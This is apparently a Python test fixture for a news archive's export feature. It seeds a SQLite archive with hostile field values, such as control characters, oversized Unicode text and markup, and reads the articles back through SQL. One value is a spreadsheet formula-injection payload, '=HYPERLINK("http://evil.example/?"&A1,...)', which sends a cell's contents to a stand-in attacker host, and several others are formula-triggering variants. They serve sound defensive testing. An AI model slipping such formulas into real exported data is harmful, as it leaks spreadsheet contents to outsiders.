"""An archive whose texts are hard to take away, and what SQL says of it."""

import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

from support.small_archive import ENGLISH, GONE, SOURCE, add_versions, build

from archive.files.home import Home

BEYOND = "𠮷" * 20_000  # two units of UTF-16 each
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
STRANGE = replace(
    GONE,
    headline=FORMULA,
    alternative_headline="+86 21 1234",
    kicker="<r>不是<b>标记</b></r>",
    standfirst=" \t@SUM(1) 前有空白 ",
    identity="6",
    authors=("-1+1", '甲, "乙"'),
    paragraphs=("_x0041_ 与 \x07 和 \x1f，还有 \x85 与 \u2028。", "=1+1", BEYOND, "\ufffe 与 \uffff"),
)
EDITED = replace(STRANGE, headline="-" + FORMULA, paragraphs=("第一段。", *STRANGE.paragraphs[1:]))
HIDDEN = ("按要求撤下的文章", "不应再被看见的文字", "newsroom-5")

SLOTS = (
    ("2024-04-16T01:00:00Z", "2024-04-16T01:00:00Z", "2024-04-16T01:02:00Z", "done"),
    ("2024-04-17T01:00:00Z", None, None, "missed"),
    ("2024-04-18T01:00:00Z", "2024-04-18T01:00:00Z", "2024-04-18T01:00:09Z", "failed"),
)
# Said apart from the program: each property where the database has it.
ARTICLES = """
    select key, url, headline, alternative_headline, kicker, standfirst, speaker, details ->> '$.authors',
           details ->> '$.keywords', date_published, date_published_utc, published_date, characters, body_text,
           '/a/' || key || '/v/' || substr(content_digest, 8, 12)
      from articles where state <> 'withdrawn' order by search_id
"""
NAMES = (
    "key", "url", "headline", "alternative_headline", "kicker", "standfirst", "speaker", "authors", "keywords",
    "date_published", "date_published_utc", "published_date", "characters", "body_text", "permalink",
)  # fmt: skip
LISTS = ("authors", "keywords")


def archive_to_take(folder: Path) -> Home:
    """The small archive, with an article of hostile texts in two versions, and three slots of a schedule."""
    home = build(folder)
    add_versions(home, STRANGE, EDITED)
    add_versions(home, replace(ENGLISH, identity="7", date_published=None))
    with closing(sqlite3.connect(home.database)) as conn, conn:
        conn.executemany(
            "insert into coverage (source, due_at, started_at, finished_at, outcome) values (?, ?, ?, ?, ?)",
            [(SOURCE, *slot) for slot in SLOTS],
        )
    return home


def told_by_sql(home: Home) -> list[dict[str, Any]]:
    """The articles as SQL reads them: lists as lists, a missing value as None."""
    with closing(sqlite3.connect(home.database)) as conn:
        rows = [dict(zip(NAMES, row, strict=True)) for row in conn.execute(ARTICLES)]
    return [row | {name: json.loads(row[name] or "[]") for name in LISTS} for row in rows]
